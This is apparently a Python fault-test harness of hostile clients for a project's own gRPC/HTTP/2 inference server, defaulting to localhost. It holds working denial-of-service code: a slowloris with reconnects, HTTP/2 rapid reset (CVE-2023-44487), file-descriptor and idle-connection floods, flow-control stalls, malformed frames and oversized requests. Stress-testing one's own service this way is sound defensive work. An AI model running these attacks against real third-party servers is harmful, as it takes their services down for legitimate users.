"""Hostile clients for the fault test (tests/faults/fault_test.sh).

  python hostile.py idle    --port P [--connections N] [--preface_share F] [--hold S]
  python hostile.py stall   --port P [--calls N] [--lq L] [--lk L] [--d D] [--hold S]
  python hostile.py garbage --port P --metrics_port M [--connections N] [--seed S]
  python hostile.py limit   --port P --max_message_bytes B
  python hostile.py slow_http --port M [--connections N] [--hold S] [--reconnect]
  python hostile.py outputs --port P [--calls N] [--connections C] [--copies K] [--lk L]
  python hostile.py fd_flood --port P [--connections N] [--hold S] [--recover_within S]
  python hostile.py rapid_reset --port P [--streams N] [--seconds S] [--connections C] [--no_read]

Each prints one line of JSON on stdout (what happened, per connection or per
call) and exits 0 when it ran; what passes is for the caller to decide.

- idle: N raw TCP connections to the gRPC port, a share of them sending the
  HTTP/2 client preface and an empty SETTINGS frame and nothing more (never
  even a SETTINGS ack), the rest nothing at all; held for S seconds, noting
  when the server closes each.
- stall: one HTTP/2 connection that opens N ScaledDotProductAttention calls
  with return_weights (a response of 4*Lq*Lk bytes each) and never takes the
  responses: a 1 KiB initial stream window, no WINDOW_UPDATE ever, so the
  server can send 64 KiB in all on the connection. The socket is still read
  (PINGs and SETTINGS are answered), so the connection looks alive. Calls
  beyond the server's MAX_CONCURRENT_STREAMS wait for a stream (politely).
- garbage: random bytes and malformed protocol to both ports: random bytes,
  an HTTP/1.1 request, the HTTP/2 preface followed by a malformed frame to
  the gRPC port; random bytes, a 64 KiB request line, a header that never
  ends and a request cut mid-way to the metrics port. Notes how each ended.
- slow_http: N connections to the metrics port, each sending an HTTP
  request whose headers never end: a header line every second for S seconds
  (a slowloris). Notes which the server closed, and when; with
  --reconnect, replaces each closed one, so N stay open for S seconds.
- outputs: N KServe ModelInfer calls to dot_product_attention over C
  connections (queries, keys and values 1xLx1: a 12 KB request for L=1024)
  each listing the output attention_weights (1xLxL, 4 MiB) K times; with
  K=1 it is the largest legitimate answer of that request. Reports each
  call's grpc-status.
- fd_flood: opens up to N raw TCP connections to the gRPC port as fast as it
  can (raising its own fd limit first), holds them S seconds, closes them,
  then checks every 50 ms for up to R seconds whether a new connection is
  served (the server's HTTP/2 SETTINGS frame arrives within 0.5 s); reports
  how many it opened and when service came back after the flood ended.
- rapid_reset: HTTP/2 rapid reset (CVE-2023-44487): on C connections, opens
  streams (HEADERS, any method) and resets each at once (RST_STREAM CANCEL),
  N streams in all or for S seconds, reading and discarding what the server
  sends (with --no_read, never reading it: the server's answers to the
  reset streams pile up on its side); reconnects when a connection ends;
  reports streams sent, their rate, and how the connections ended.
- limit: one call whose gRPC message is exactly B bytes and one of B + 1
  bytes (a valid small AttentionRequest padded with an unknown field, which
  protobuf parsers keep and ignore); reports each call's grpc-status.

The gRPC framing is done by hand (5-byte prefix: flag, big-endian length) and
the protobuf bytes too (the few fields needed), so the only dependency is the
`h2` package (tests/faults/requirements.txt).
"""

import argparse
import json
import os
import random
import select
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

ATTENTION_METHOD = "/attention.v1.AttentionService/ScaledDotProductAttention"
GRPC_CODES = [
    "OK", "CANCELLED", "UNKNOWN", "INVALID_ARGUMENT", "DEADLINE_EXCEEDED",
    "NOT_FOUND", "ALREADY_EXISTS", "PERMISSION_DENIED", "RESOURCE_EXHAUSTED",
    "FAILED_PRECONDITION", "ABORTED", "OUT_OF_RANGE", "UNIMPLEMENTED",
    "INTERNAL", "UNAVAILABLE", "DATA_LOSS", "UNAUTHENTICATED",
]


# --- Protobuf, by hand (proto/attention/v1/attention.proto).

def varint(value):
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        if value:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def field_bytes(number, payload):
    return varint((number << 3) | 2) + varint(len(payload)) + payload


def field_varint(number, value):
    return varint(number << 3) + varint(value)


def tensor(shape, rng):
    """A Tensor message: packed int64 shape (1) and raw float32 data (3)."""
    count = 1
    for dim in shape:
        count *= dim
    packed_shape = b"".join(varint(d) for d in shape)
    return field_bytes(1, packed_shape) + field_bytes(3, floats(count, rng))


def floats(count, rng):
    """`count` finite float32 in [-1, 1], little-endian: a random block of at
    most 4096, repeated (fast for megabytes)."""
    block_len = max(1, min(count, 4096))
    block = struct.pack("<%df" % block_len, *(rng.uniform(-1, 1) for _ in range(block_len)))
    reps, rest = divmod(count, block_len)
    return block * reps + block[: 4 * rest]


def attention_request(b, lq, lk, d, return_weights, rng, pad_to=None):
    """AttentionRequest: queries (1), keys (2), values (3) as raw tensors,
    return_weights (8), output_encoding RAW (10). With pad_to, an unknown
    field 15 (bytes) makes the message exactly pad_to bytes long."""
    message = (field_bytes(1, tensor((b, lq, d), rng)) +
               field_bytes(2, tensor((b, lk, d), rng)) +
               field_bytes(3, tensor((b, lk, d), rng)))
    if return_weights:
        message += field_varint(8, 1)
    message += field_varint(10, 1)
    if pad_to is not None:
        room = pad_to - len(message) - 1  # 1: the tag of field 15
        length = room
        while length >= 0 and len(varint(length)) + length != room:
            length -= 1
        if length < 0:
            raise ValueError("cannot pad %d bytes to %d" % (len(message), pad_to))
        message += field_bytes(15, b"\0" * length)
        assert len(message) == pad_to, (len(message), pad_to)
    return message


MODEL_INFER_METHOD = "/inference.GRPCInferenceService/ModelInfer"


def model_infer_request(model, inputs, outputs):
    """ModelInferRequest: model_name (1), inputs (5: name 1, datatype 2,
    shape 3 packed), outputs (6: name 1), raw_input_contents (7).
    `inputs`: (name, datatype, shape, raw bytes)."""
    message = field_bytes(1, model.encode())
    for name, datatype, shape, _ in inputs:
        dims = b"".join(varint(d) for d in shape)
        message += field_bytes(5, field_bytes(1, name.encode()) +
                               field_bytes(2, datatype.encode()) +
                               field_bytes(3, dims))
    for name in outputs:
        message += field_bytes(6, field_bytes(1, name.encode()))
    for _, _, _, raw in inputs:
        message += field_bytes(7, raw)
    return message


def grpc_frame(message):
    return struct.pack(">BI", 0, len(message)) + message


# --- HTTP/2.

def h2_connect(host, port, initial_window=None, timeout=10.0):
    sock = socket.create_connection((host, port), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    values = {h2.settings.SettingCodes.ENABLE_PUSH: 0}
    if initial_window is not None:
        values[h2.settings.SettingCodes.INITIAL_WINDOW_SIZE] = initial_window
    conn.local_settings = h2.settings.Settings(client=True, initial_values=values)
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sock.setblocking(False)
    return sock, conn


def request_headers(host, port, method, timeout_s=None):
    headers = [
        (":method", "POST"), (":scheme", "http"), (":path", method),
        (":authority", "%s:%d" % (host, port)),
        ("content-type", "application/grpc"), ("te", "trailers"),
    ]
    if timeout_s is not None:
        headers.append(("grpc-timeout", "%dS" % timeout_s))
    return headers


class Call:
    def __init__(self, index, body, method=ATTENTION_METHOD):
        self.index = index
        self.method = method
        self.body = body          # the framed request, still to send
        self.sent = 0
        self.stream_id = None
        self.opened_at = None
        self.headers_at = None
        self.data_bytes = 0
        self.status = None        # grpc-status name
        self.message = ""
        self.reset = None         # RST_STREAM error code name
        self.ended_at = None

    def outcome(self):
        if self.status is not None:
            return self.status
        if self.reset is not None:
            return "RST_STREAM:" + self.reset
        if self.stream_id is None:
            return "not_sent"
        if self.data_bytes or self.headers_at is not None:
            return "stalled"
        return "no_response"


class Client:
    """One HTTP/2 connection carrying gRPC calls; `take_data` False never
    acknowledges received data (no WINDOW_UPDATE)."""

    def __init__(self, host, port, initial_window=None, take_data=True):
        self.host, self.port = host, port
        self.take_data = take_data
        self.sock, self.conn = h2_connect(host, port, initial_window)
        self.calls = {}           # stream id -> Call
        self.waiting = []         # Calls not yet given a stream
        self.closed = None        # why the connection ended, if it did
        self.goaway = None
        self.settings_seen = False
        self.max_streams_seen = None
        self.inbox = b""

    def flush(self):
        data = self.conn.data_to_send()
        while data and self.closed is None:
            try:
                sent = self.sock.send(data)
                data = data[sent:]
            except BlockingIOError:
                select.select([], [self.sock], [], 0.05)
            except OSError as error:
                self.closed = "send: %s" % error
                return

    def add(self, call):
        self.waiting.append(call)

    def _open_waiting(self):
        while self.waiting and self.closed is None and self.settings_seen:
            limit = self.conn.remote_settings.max_concurrent_streams
            if self.conn.open_outbound_streams >= limit:
                return
            call = self.waiting.pop(0)
            stream_id = self.conn.get_next_available_stream_id()
            self.conn.send_headers(stream_id, request_headers(
                self.host, self.port, call.method))
            call.stream_id = stream_id
            call.opened_at = time.monotonic()
            self.calls[stream_id] = call

    def _send_bodies(self):
        for call in self.calls.values():
            while call.sent < len(call.body) and self.closed is None:
                try:
                    window = self.conn.local_flow_control_window(call.stream_id)
                except h2.exceptions.StreamClosedError:
                    break
                room = min(window, self.conn.max_outbound_frame_size,
                           len(call.body) - call.sent)
                if room <= 0:
                    break
                chunk = call.body[call.sent:call.sent + room]
                call.sent += room
                self.conn.send_data(call.stream_id, chunk,
                                    end_stream=call.sent == len(call.body))
                self.flush()

    def _status(self, call, headers):
        fields = dict(headers)
        if "grpc-status" in fields:
            code = int(fields["grpc-status"])
            call.status = GRPC_CODES[code] if 0 <= code < len(GRPC_CODES) else str(code)
            call.message = fields.get("grpc-message", "")
            call.ended_at = time.monotonic()

    def _handle(self, event):
        if isinstance(event, h2.events.RemoteSettingsChanged):
            self.settings_seen = True
            setting = event.changed_settings.get(
                h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS)
            if setting is not None:
                self.max_streams_seen = setting.new_value
            return
        call = self.calls.get(getattr(event, "stream_id", None))
        if isinstance(event, h2.events.ResponseReceived) and call:
            call.headers_at = time.monotonic()
            self._status(call, event.headers)  # trailers-only response
        elif isinstance(event, h2.events.DataReceived) and call:
            call.data_bytes += len(event.data)
            if self.take_data:
                self.conn.acknowledge_received_data(
                    event.flow_controlled_length, event.stream_id)
        elif isinstance(event, h2.events.TrailersReceived) and call:
            self._status(call, event.headers)
        elif isinstance(event, h2.events.StreamReset) and call:
            call.reset = getattr(event.error_code, "name", str(event.error_code))
            call.ended_at = time.monotonic()
        elif isinstance(event, h2.events.ConnectionTerminated):
            self.goaway = {
                "error": getattr(event.error_code, "name", str(event.error_code)),
                "last_stream_id": event.last_stream_id,
                "debug": (event.additional_data or b"")[:200].decode("latin-1"),
            }

    def step(self, timeout):
        """Opens and feeds what it can, then reads for at most `timeout`."""
        if self.closed is not None:
            time.sleep(timeout)
            return
        self._open_waiting()
        self.flush()
        self._send_bodies()
        readable, _, _ = select.select([self.sock], [], [], timeout)
        if not readable:
            return
        try:
            data = self.sock.recv(1 << 16)
        except BlockingIOError:
            return
        except OSError as error:
            self.closed = "recv: %s" % error
            return
        if not data:
            self.closed = "EOF"
            return
        # One frame at a time, so that a GOAWAY's event is seen even when h2
        # then refuses the frames the server may still send on open streams.
        self.inbox += data
        while len(self.inbox) >= 9:
            length = int.from_bytes(self.inbox[:3], "big")
            if len(self.inbox) < 9 + length:
                break
            frame, self.inbox = self.inbox[:9 + length], self.inbox[9 + length:]
            try:
                events = self.conn.receive_data(frame)
            except h2.exceptions.ProtocolError as error:
                self.closed = ("after GOAWAY, h2 refused a frame" if self.goaway
                               else "protocol error: %s" % error)
                return
            for event in events:
                self._handle(event)
        self.flush()

    def done(self):
        return not self.waiting and all(
            c.status is not None or c.reset is not None for c in self.calls.values())

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def summarize(calls):
    outcomes = {}
    for call in calls:
        outcomes[call.outcome()] = outcomes.get(call.outcome(), 0) + 1
    return outcomes


# --- Subcommands.

def cmd_idle(args):
    preface_count = int(round(args.connections * args.preface_share))
    socks = []
    start = time.monotonic()
    refused = 0
    for i in range(args.connections):
        try:
            sock = socket.create_connection((args.host, args.port), timeout=5)
        except OSError:
            refused += 1
            continue
        kind = "preface" if i < preface_count else "raw"
        if kind == "preface":
            # The client preface and an empty SETTINGS frame; nothing after.
            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
                         b"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
        sock.setblocking(False)
        socks.append({"sock": sock, "kind": kind, "closed_at": None, "got": 0})
    opened_in = time.monotonic() - start
    deadline = time.monotonic() + args.hold
    while time.monotonic() < deadline:
        live = [s for s in socks if s["closed_at"] is None]
        if not live:
            break
        readable, _, _ = select.select([s["sock"] for s in live], [], [], 0.2)
        for entry in live:
            if entry["sock"] not in readable:
                continue
            try:
                data = entry["sock"].recv(1 << 16)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                entry["got"] += len(data)  # SETTINGS, GOAWAY: read, not acked
            else:
                entry["closed_at"] = time.monotonic() - start
    result = {"mode": "idle", "connections": args.connections, "refused": refused,
              "opened_in_s": round(opened_in, 3), "hold_s": args.hold}
    for kind in ("preface", "raw"):
        mine = [s for s in socks if s["kind"] == kind]
        closed = sorted(s["closed_at"] for s in mine if s["closed_at"] is not None)
        result[kind] = {
            "opened": len(mine), "closed_by_server": len(closed),
            "first_close_s": round(closed[0], 2) if closed else None,
            "last_close_s": round(closed[-1], 2) if closed else None,
            "bytes_from_server": sum(s["got"] for s in mine),
        }
    for entry in socks:
        entry["sock"].close()
    print(json.dumps(result))


def cmd_stall(args):
    rng = random.Random(args.seed)
    body = grpc_frame(attention_request(1, args.lq, args.lk, args.d, True, rng))
    client = Client(args.host, args.port, initial_window=args.window, take_data=False)
    calls = [Call(i, body) for i in range(args.calls)]
    for call in calls:
        client.add(call)
    start = time.monotonic()
    deadline = start + args.hold
    all_sent_at = None
    while time.monotonic() < deadline:
        client.step(0.05)
        if all_sent_at is None and not client.waiting and all(
                c.sent == len(c.body) for c in calls):
            all_sent_at = time.monotonic() - start
        if client.done():
            break
    result = {
        "mode": "stall", "calls": args.calls,
        "request_bytes": len(body), "response_bytes": 4 * args.lq * args.lk,
        "server_max_concurrent_streams": client.max_streams_seen,
        "opened": sum(1 for c in calls if c.stream_id is not None),
        "requests_fully_sent": sum(1 for c in calls if c.sent == len(c.body)),
        "all_sent_s": round(all_sent_at, 2) if all_sent_at is not None else None,
        "response_bytes_taken": sum(c.data_bytes for c in calls),
        "outcomes": summarize(calls),
        "connection": client.closed, "goaway": client.goaway,
        "held_s": round(time.monotonic() - start, 2),
    }
    client.close()
    print(json.dumps(result))


def _exchange(host, port, payload, wait=2.0, hold=0.0):
    """Sends `payload`, then reads for `wait` s; says how the server answered."""
    start = time.monotonic()
    try:
        sock = socket.create_connection((host, port), timeout=5)
    except OSError as error:
        return {"connect": str(error)}
    got = b""
    end = "open"
    try:
        sock.sendall(payload)
        if hold:
            time.sleep(hold)
        sock.settimeout(0.2)
        deadline = time.monotonic() + wait
        while time.monotonic() < deadline:
            try:
                data = sock.recv(1 << 16)
            except socket.timeout:
                continue
            if not data:
                end = "closed by server"
                break
            got += data
    except OSError as error:
        end = "error: %s" % error
    finally:
        sock.close()
    first_line = got.split(b"\r\n", 1)[0][:80].decode("latin-1") if got[:4] == b"HTTP" else None
    return {"end": end, "bytes_back": len(got), "http_status_line": first_line,
            "frames_back": got[:9].hex() if got and not first_line else None,
            "s": round(time.monotonic() - start, 2)}


def cmd_garbage(args):
    rng = random.Random(args.seed)
    grpc_results, metrics_results = [], []
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    for i in range(args.connections):
        size = rng.choice([1, 17, 512, 4096, 65536, 1 << 20])
        noise = bytes(rng.getrandbits(8) for _ in range(min(size, 4096)))
        noise = (noise * (size // len(noise) + 1))[:size]
        grpc_results.append(_exchange(args.host, args.port, noise, wait=1.0))
        metrics_results.append(_exchange(args.host, args.metrics_port, noise, wait=1.0))
    # Malformed protocol to the gRPC port.
    grpc_results.append(dict(_exchange(
        args.host, args.port, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"), case="http1"))
    bad_frame = struct.pack(">I", 0xFFFFFF)[1:] + b"\x01\x04" + struct.pack(">I", 1)
    grpc_results.append(dict(_exchange(
        args.host, args.port,
        preface + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00" + bad_frame + os.urandom(1024)),
        case="preface+oversized HEADERS"))
    # Malformed HTTP to the metrics port.
    metrics_results.append(dict(_exchange(
        args.host, args.metrics_port, b"GET /" + b"a" * 65536 + b" HTTP/1.1\r\n\r\n"),
        case="64 KiB request line"))
    metrics_results.append(dict(_exchange(
        args.host, args.metrics_port,
        b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Long: " + b"b" * (1 << 20)),
        case="1 MiB header, never ended"))
    metrics_results.append(dict(_exchange(
        args.host, args.metrics_port, b"GET /metr", wait=3.0), case="request cut short"))
    metrics_results.append(dict(_exchange(
        args.host, args.metrics_port, b"POST /metrics HTTP/1.1\r\nHost: x\r\n"
        b"Content-Length: 1000000000\r\n\r\n" + b"c" * 65536), case="huge Content-Length"))

    def tally(results):
        out = {}
        for r in results:
            key = r.get("end") or r.get("connect")
            if r.get("http_status_line"):
                key += " after " + r["http_status_line"]
            out[key] = out.get(key, 0) + 1
        return out

    print(json.dumps({"mode": "garbage", "grpc": tally(grpc_results),
                      "metrics": tally(metrics_results),
                      "grpc_cases": [r for r in grpc_results if "case" in r],
                      "metrics_cases": [r for r in metrics_results if "case" in r]}))


def cmd_slow_http(args):
    start = time.monotonic()

    def open_one():
        try:
            sock = socket.create_connection((args.host, args.port), timeout=5)
            sock.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n")
            sock.setblocking(False)
            return {"sock": sock, "closed_at": None, "answer": None}
        except OSError:
            return None

    conns = [c for c in (open_one() for _ in range(args.connections)) if c]
    closed, answers, reopened = [], {}, 0
    deadline = start + args.hold
    next_line = time.monotonic() + 1.0
    while time.monotonic() < deadline:
        live = [c for c in conns if c["closed_at"] is None]
        if not live:
            break
        poller = select.poll()  # select() stops at fd 1024
        by_fd = {c["sock"].fileno(): c for c in live}
        for fd in by_fd:
            poller.register(fd, select.POLLIN)
        for fd, _ in poller.poll(100):
            c = by_fd[fd]
            try:
                data = c["sock"].recv(4096)
            except OSError:
                data = b""
            if data and c["answer"] is None:
                c["answer"] = data.split(b"\r\n", 1)[0][:60].decode("latin-1")
            if not data:
                c["closed_at"] = round(time.monotonic() - start, 2)
        if time.monotonic() >= next_line:
            next_line += 1.0
            for c in live:
                try:
                    c["sock"].send(b"X-Slow: %d\r\n" % int(time.monotonic() - start))
                except OSError:
                    c["closed_at"] = round(time.monotonic() - start, 2)
        # Each one the server closed: noted, and (--reconnect) replaced, so
        # the pressure lasts as long as the attacker wants.
        for i, c in enumerate(conns):
            if c["closed_at"] is None:
                continue
            closed.append(c["closed_at"])
            if c["answer"]:
                answers[c["answer"]] = answers.get(c["answer"], 0) + 1
            c["sock"].close()
            fresh = open_one() if args.reconnect else None
            if fresh:
                reopened += 1
                conns[i] = fresh
            else:
                c["closed_at"] = -1.0  # counted; kept out of the live set
                c["sock"] = None
        conns = [c for c in conns if c["sock"] is not None]
    print(json.dumps({"mode": "slow_http", "connections": args.connections,
                      "hold_s": args.hold, "closed_by_server": len(closed),
                      "reopened": reopened,
                      "first_close_s": min(closed) if closed else None,
                      "answers": answers}))
    for c in conns:
        c["sock"].close()


def cmd_limit(args):
    rng = random.Random(args.seed)
    client = Client(args.host, args.port)
    sizes = [args.max_message_bytes, args.max_message_bytes + 1]
    calls = []
    for i, size in enumerate(sizes):
        message = attention_request(1, 2, 4, 8, False, rng, pad_to=size)
        calls.append(Call(i, grpc_frame(message)))
        client.add(calls[-1])
    deadline = time.monotonic() + args.hold
    while time.monotonic() < deadline and not client.done() and client.closed is None:
        client.step(0.05)
    print(json.dumps({
        "mode": "limit", "max_message_bytes": args.max_message_bytes,
        "calls": [{"message_bytes": size, "outcome": call.outcome(),
                   "message": call.message[:200],
                   "response_bytes": call.data_bytes}
                  for size, call in zip(sizes, calls)],
        "connection": client.closed, "goaway": client.goaway}))
    client.close()


def cmd_outputs(args):
    rng = random.Random(args.seed)
    shape = (1, args.lk, 1)
    inputs = [(name, "FP32", shape, floats(args.lk, rng))
              for name in ("queries", "keys", "values")]
    message = model_infer_request("dot_product_attention", inputs,
                                  ["attention_weights"] * args.copies)
    body = grpc_frame(message)
    clients = [Client(args.host, args.port) for _ in range(args.connections)]
    calls = [Call(i, body, MODEL_INFER_METHOD) for i in range(args.calls)]
    for i, call in enumerate(calls):
        clients[i % len(clients)].add(call)
    start = time.monotonic()
    deadline = start + args.hold
    while time.monotonic() < deadline and not all(c.done() for c in clients):
        for client in clients:
            client.step(0.01)
    messages = sorted({c.message[:160] for c in calls if c.status not in (None, "OK")})
    print(json.dumps({
        "mode": "outputs", "copies": args.copies, "calls": args.calls,
        "request_bytes": len(message),
        "response_bytes_asked": args.copies * 4 * args.lk * args.lk,
        "outcomes": summarize(calls), "messages": messages[:3],
        "largest_response_bytes": max((c.data_bytes for c in calls), default=0),
        "s": round(time.monotonic() - start, 2)}))
    for client in clients:
        client.close()


def _served(host, port, timeout):
    """Whether a new connection gets the server's HTTP/2 SETTINGS frame."""
    try:
        sock = socket.create_connection((host, port), timeout=timeout)
    except OSError:
        return False
    try:
        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
                     b"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
        sock.settimeout(timeout)
        data = sock.recv(9)
        return len(data) >= 4 and data[3] == 0x04  # a SETTINGS frame
    except OSError:
        return False
    finally:
        sock.close()


def cmd_fd_flood(args):
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, args.connections + 64) if hard != resource.RLIM_INFINITY \
        else args.connections + 64
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    served_before = _served(args.host, args.port, 2.0)
    socks, failures = [], {}
    start = time.monotonic()
    for _ in range(args.connections):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        error = sock.connect_ex((args.host, args.port))
        if error not in (0, 115):  # EINPROGRESS
            name = os.strerror(error)
            failures[name] = failures.get(name, 0) + 1
            sock.close()
            continue
        socks.append(sock)
    opened_in = time.monotonic() - start
    # A new client during the flood, for the record.
    served_during = _served(args.host, args.port, 1.0)
    time.sleep(args.hold)
    # How many the server still holds (it may close some, e.g. at its cap).
    poller = select.poll()  # select() stops at fd 1024
    for sock in socks:
        poller.register(sock, select.POLLIN)
    readable = {fd for fd, _ in poller.poll(0)}
    closed_by_server = 0
    for sock in (s for s in socks if s.fileno() in readable):
        try:
            while True:
                data = sock.recv(1 << 16)
                if not data:
                    closed_by_server += 1
                    break
        except OSError:
            pass
    for sock in socks:
        sock.close()
    ended = time.monotonic()
    recovered_s = None
    while time.monotonic() - ended < args.recover_within:
        if _served(args.host, args.port, 0.5):
            recovered_s = round(time.monotonic() - ended, 3)
            break
        time.sleep(0.05)
    print(json.dumps({
        "mode": "fd_flood", "asked": args.connections, "opened": len(socks),
        "failed": failures, "opened_in_s": round(opened_in, 2),
        "served_before": served_before, "served_during": served_during,
        "closed_by_server_while_held": closed_by_server,
        "served_again_after_s": recovered_s,
        "recover_within_s": args.recover_within}))


def cmd_rapid_reset(args):
    headers = request_headers(args.host, args.port, "/no.such.Service/Reset")

    def connect():
        try:
            sock, conn = h2_connect(args.host, args.port)
            return {"sock": sock, "conn": conn, "closed": None}
        except OSError as error:
            return {"sock": None, "conn": None, "closed": "connect: %s" % error}

    conns = [connect() for _ in range(args.connections)]
    ends = {}
    start = time.monotonic()
    sent = reconnects = 0
    while sent < args.streams and time.monotonic() - start < args.seconds:
        for i, c in enumerate(conns):
            if c["closed"] is not None:
                # The server (or a proxy) ended it: note how, and come back
                # on a new connection, as an attacker would.
                ends[c["closed"]] = ends.get(c["closed"], 0) + 1
                if c["sock"] is not None:
                    c["sock"].close()
                conns[i] = c = connect()
                reconnects += 1
                if c["closed"] is not None:
                    time.sleep(0.01)
                    continue
            conn, sock = c["conn"], c["sock"]
            try:
                for _ in range(args.batch):
                    stream_id = conn.get_next_available_stream_id()
                    conn.send_headers(stream_id, headers)
                    conn.reset_stream(stream_id)
                sent += args.batch
                sock.settimeout(5)
                sock.sendall(conn.data_to_send())
                sock.setblocking(False)
                while c["closed"] is None and not args.no_read:
                    try:
                        got = sock.recv(1 << 16)
                    except BlockingIOError:
                        break
                    if not got:
                        c["closed"] = "EOF"
                        break
                    for event in conn.receive_data(got):
                        if isinstance(event, h2.events.ConnectionTerminated):
                            c["closed"] = "GOAWAY %s" % getattr(
                                event.error_code, "name", event.error_code)
                sock.sendall(conn.data_to_send())
            except (OSError, h2.exceptions.H2Error) as error:
                c["closed"] = type(error).__name__
    took = time.monotonic() - start
    for c in conns:
        key = c["closed"] or "open at the end"
        ends[key] = ends.get(key, 0) + 1
        if c["sock"] is not None:
            c["sock"].close()
    print(json.dumps({"mode": "rapid_reset", "streams": sent, "s": round(took, 2),
                      "streams_per_s": round(sent / took) if took else None,
                      "reconnects": reconnects, "connection_ends": ends}))


def main(argv):
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = parser.add_subparsers(dest="command", required=True)

    def common(p):
        p.add_argument("--host", default="127.0.0.1")
        p.add_argument("--port", type=int, required=True)
        p.add_argument("--seed", type=int, default=1)

    p = sub.add_parser("idle")
    common(p)
    p.add_argument("--connections", type=int, default=300)
    p.add_argument("--preface_share", type=float, default=0.5)
    p.add_argument("--hold", type=float, default=10.0)
    p.set_defaults(run=cmd_idle)
    p = sub.add_parser("stall")
    common(p)
    p.add_argument("--calls", type=int, default=200)
    p.add_argument("--lq", type=int, default=1536)
    p.add_argument("--lk", type=int, default=1536)
    p.add_argument("--d", type=int, default=16)
    p.add_argument("--window", type=int, default=1024)
    p.add_argument("--hold", type=float, default=10.0)
    p.set_defaults(run=cmd_stall)
    p = sub.add_parser("garbage")
    common(p)
    p.add_argument("--metrics_port", type=int, required=True)
    p.add_argument("--connections", type=int, default=20)
    p.set_defaults(run=cmd_garbage)
    p = sub.add_parser("slow_http")
    common(p)
    p.add_argument("--connections", type=int, default=8)
    p.add_argument("--hold", type=float, default=10.0)
    p.add_argument("--reconnect", action="store_true",
                   help="open a new slow connection for each one the server closes")
    p.set_defaults(run=cmd_slow_http)
    p = sub.add_parser("limit")
    common(p)
    p.add_argument("--max_message_bytes", type=int, required=True)
    p.add_argument("--hold", type=float, default=30.0)
    p.set_defaults(run=cmd_limit)
    p = sub.add_parser("outputs")
    common(p)
    p.add_argument("--calls", type=int, default=16)
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--copies", type=int, default=500)
    p.add_argument("--lk", type=int, default=1024)
    p.add_argument("--hold", type=float, default=60.0)
    p.set_defaults(run=cmd_outputs)
    p = sub.add_parser("fd_flood")
    common(p)
    p.add_argument("--connections", type=int, default=1100)
    p.add_argument("--hold", type=float, default=2.0)
    p.add_argument("--recover_within", type=float, default=5.0)
    p.set_defaults(run=cmd_fd_flood)
    p = sub.add_parser("rapid_reset")
    common(p)
    p.add_argument("--streams", type=int, default=100000)
    p.add_argument("--seconds", type=float, default=12.0)
    p.add_argument("--connections", type=int, default=1)
    p.add_argument("--batch", type=int, default=100)
    p.add_argument("--no_read", action="store_true",
                   help="never read what the server sends (its answers pile up)")
    p.set_defaults(run=cmd_rapid_reset)
    args = parser.parse_args(argv)
    args.run(args)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
